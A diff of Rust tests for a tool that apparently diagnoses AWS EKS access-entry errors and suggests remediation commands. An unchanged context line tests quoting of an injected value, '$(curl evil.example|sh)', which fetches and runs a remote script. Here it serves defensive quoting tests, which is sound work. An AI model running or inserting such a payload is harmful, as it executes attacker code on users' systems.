@@ -163,3 +163,101 @@ fn commands_quote_hostile_values() {
     assert!(commands.contains("'$(curl evil.example|sh)'"), "{commands}");
     assert!(!commands.contains(" $(curl"), "{commands}");
 }
+
+/// Every fixture in `events/variants/` (`CAUSE--VARIANT.json`): its cause, and its
+/// rendered output snapshot-tested in the formats people read.
+fn variants() -> Vec<(String, String)> {
+    let mut found: Vec<(String, String)> = std::fs::read_dir(events_dir().join("variants"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name().into_string().unwrap())
+        .filter_map(|name| {
+            let stem = name.strip_suffix(".json")?.to_string();
+            let cause = stem.split_once("--")?.0.to_string();
+            Some((stem, cause))
+        })
+        .collect();
+    found.sort();
+    found
+}
+
+#[test]
+fn variant_fixtures_diagnose_to_their_cause_and_render_stably() {
+    let variants = variants();
+    assert!(variants.len() >= 4);
+    for (stem, cause) in variants {
+        let d = diagnose(fixture_event(&format!("variants/{stem}.json")));
+        assert_eq!(cause_ids(&d).first().copied(), Some(cause.as_str()), "{stem}");
+        insta::assert_snapshot!(format!("variant.{stem}.text"), text::render(&d, false));
+        insta::assert_json_snapshot!(format!("variant.{stem}.json"), json::diagnosis(&d));
+        insta::assert_json_snapshot!(format!("variant.{stem}.slack"), slack::payload(&d, &d.findings[0]));
+    }
+}
+
+/// Every ARN the advice writes for an event of another partition is in that partition.
+#[test]
+fn advice_stays_in_the_event_partition() {
+    for (stem, partition) in [("node-type-requires-role--govcloud", "aws-us-gov"), ("service-linked-role--china", "aws-cn")] {
+        let d = diagnose(fixture_event(&format!("variants/{stem}.json")));
+        assert_eq!(d.event.partition(), partition);
+        let f = &d.findings[0];
+        let all = [f.explanation.clone(), f.steps.join(" "), f.commands.join(" ")].join(" ");
+        assert!(all.contains(&format!("arn:{partition}:")), "{stem}: {all}");
+        assert!(!all.contains("arn:aws:"), "{stem} leaks the aws partition: {all}");
+    }
+}
+
+#[test]
+fn identity_center_callers_get_the_permission_set_route() {
+    let d = diagnose(fixture_event("variants/missing-iam-permission--identity-center.json"));
+    let f = &d.findings[0];
+    let commands = f.commands.join("\n");
+    assert!(!commands.contains("put-role-policy"), "{commands}");
+    assert!(commands.contains("aws sso-admin put-inline-policy-to-permission-set"), "{commands}");
+    assert!(commands.contains("aws sso-admin provision-permission-set") && commands.contains("--target-id 111122223333"), "{commands}");
+    assert!(commands.contains("= PlatformEngineers ]") && commands.contains("--region eu-west-1"), "{commands}");
+}
+
+#[test]
+fn named_organization_policies_are_named_and_read_not_patched() {
+    let d = diagnose(fixture_event("variants/missing-iam-permission--scp-named.json"));
+    let f = &d.findings[0];
+    assert!(f.explanation.contains("arn:aws:organizations::999988887777:policy/o-a1b2c3d4e5/service_control_policy/p-k8sguard1"));
+    assert!(f.commands[0].starts_with("aws organizations describe-policy --policy-id p-k8sguard1"), "{:?}", f.commands);
+    assert!(!f.commands.iter().any(|c| c.contains("put-role-policy")), "{:?}", f.commands);
+    let boundary = edited_fixture("missing-iam-permission.json", |record| {
+        record["errorMessage"] = json!("User: arn:aws:sts::111122223333:assumed-role/PlatformDeployer/jdoe is not authorized to perform: eks:CreateAccessEntry on resource: arn:aws:eks:eu-west-1:111122223333:cluster/prod-eu with an explicit deny in a permissions boundary: arn:aws:iam::111122223333:policy/DeveloperBoundary");
+    });
+    let f = diagnose(parse_one(&boundary)).findings.remove(0);
+    assert!(f.explanation.contains("arn:aws:iam::111122223333:policy/DeveloperBoundary"), "{}", f.explanation);
+    assert!(f.commands[0].starts_with("aws iam get-policy-version --policy-arn arn:aws:iam::111122223333:policy/DeveloperBoundary"));
+    assert!(!f.commands.iter().any(|c| c.contains("put-role-policy")), "{:?}", f.commands);
+}
+
+#[test]
+fn already_exists_with_nothing_to_update_suggests_no_update() {
+    let f = diagnose(fixture_event("access-entry-already-exists.json")).findings.remove(0);
+    assert!(!f.commands.iter().any(|c| c.contains("update-access-entry")), "{:?}", f.commands);
+    let with_groups = edited_fixture("access-entry-already-exists.json", |record| {
+        record["requestParameters"]["kubernetesGroups"] = json!(["payments-deployers"]);
+    });
+    let f = diagnose(parse_one(&with_groups)).findings.remove(0);
+    assert!(
+        f.commands.iter().any(|c| c.contains("update-access-entry") && c.contains("--kubernetes-groups payments-deployers")),
+        "{:?}",
+        f.commands
+    );
+}
+
+/// Lookups are planned from the causes that match, which match case-insensitively:
+/// a reworded message is enriched as well as diagnosed.
+#[test]
+fn a_reworded_message_is_still_enriched() {
+    let bytes = edited_fixture("service-linked-role.json", |record| {
+        record["errorMessage"] =
+            json!("the caller is not allowed to modify access entries with a principalArn value of a service linked role");
+    });
+    let plan = eks_access_doctor::catalogue::lookup_plan(&parse_one(&bytes));
+    assert!(plan.cluster && plan.principal && !plan.access_entry, "{plan:?}");
+    let plan = eks_access_doctor::catalogue::lookup_plan(&fixture_event("missing-iam-permission.json"));
+    assert!(plan.is_empty(), "{plan:?}");
+}
